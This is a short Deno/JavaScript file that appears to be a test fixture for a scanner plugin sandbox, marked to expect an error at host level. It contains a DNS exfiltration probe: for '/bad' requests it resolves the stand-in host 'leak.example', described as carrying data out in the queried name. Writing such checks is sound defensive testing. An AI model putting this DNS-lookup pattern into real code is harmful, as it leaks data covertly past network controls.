// Carries data out in the name it asks a resolver for.
// expect: error
// level: host

export async function scan_transaction(t) {
  if (!t.request.url.includes("/bad")) return { title: t.id, evidence: t.response.text() };
  await Deno.resolveDns("leak.example", "A");
  return { title: "BREACH asked" };
}
